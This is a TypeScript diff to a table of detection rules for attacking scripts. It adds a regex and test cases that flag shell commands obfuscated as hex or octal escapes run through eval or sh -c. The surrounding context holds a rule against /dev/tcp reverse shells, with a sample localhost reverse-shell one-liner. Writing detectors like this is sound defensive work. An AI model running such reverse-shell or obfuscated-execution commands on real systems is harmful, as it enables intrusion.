@@ -81,6 +81,18 @@ export const SCRIPT_ROWS: readonly Row[] = [
   },
   {
     rule: ATTACKING_SCRIPT,
+    // A command that is spelt by the codes of its letters.
+    pattern:
+      /(?:\beval\b[^\n]{0,20}|\|\s*(?:ba|z|da)?sh\b.{0,3}<<<?\s*["']?|\b(?:ba|z|da)?sh\s+-c\s+["']?)\$?[(`"']{0,3}\s*(?:printf|echo\s+-n?e)?\s*["']?(?:\\(?:x[0-9a-f]{2}|0?[0-7]{3})){3}/i,
+    fires: [
+      `eval "$(printf '\\x74\\x72\\x75\\x65')"`,
+      `eval $'\\164\\162\\165\\145'`,
+      `sh -c "$(echo -e '\\x74\\x72\\x75')"`,
+    ],
+    quiet: [`printf '\\x1b[31mred\\x1b[0m'`, 'eval "$(ssh-agent -s)"'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
     pattern: /\/dev\/(?:tcp|udp)\/[\w.$\x7b}]+\/[\w$\x7b}]+/,
     fires: ['bash -i >& /dev/tcp/127.0.0.1/9 0>&1'],
     quiet: ['ls /dev/tcp'],
